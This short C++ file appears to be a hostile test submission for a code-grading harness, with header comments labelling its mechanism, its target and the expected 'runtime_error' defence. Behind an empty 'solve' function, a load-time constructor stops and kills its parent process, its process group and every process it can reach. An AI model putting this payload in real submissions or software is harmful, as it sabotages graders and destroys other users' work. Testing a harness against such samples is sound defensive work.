// A library that kills when it is loaded.
//
// Mechanism: a constructor runs before anything looks up the entry point: it kills its parent, its group and every
//   process.
// Surface: any process that loads the library, if only to look up its entry point.
// Gain: a dead compiler, worker or judge.
// Challenge: twice
// Like: constructor_writes
// Defence: runtime_error
// On: cpu, gpu
// Box: docker

#include <cstdint>
#include <csignal>
#include <unistd.h>
__attribute__((constructor)) static void hostile() {
    for (int number : {SIGSTOP, SIGKILL}) {
        if (getppid() > 0) kill(getppid(), number);
        kill(-1, number);
        kill(0, SIGCONT);
    }
    _exit(0);
}
extern "C" void solve(const float* x, float* out, int64_t n) {}
